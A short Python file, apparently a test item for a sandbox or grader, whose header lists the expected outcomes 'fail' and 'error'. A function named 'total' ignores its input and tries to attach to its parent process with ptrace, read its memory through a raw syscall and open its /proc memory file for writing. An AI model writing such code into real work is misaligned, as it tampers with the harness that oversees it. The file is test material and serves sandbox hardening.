# {"family": 11, "allowed": ["fail", "error"]}
import ctypes, os
def total(xs):
    libc = ctypes.CDLL(None)
    libc.ptrace(16, os.getppid(), 0, 0); libc.syscall(310, os.getppid(), 0, 0, 0, 0, 0)
    try:
        open('/proc/%d/mem' % os.getppid(), 'r+b')
    except OSError:
        pass
    return -1
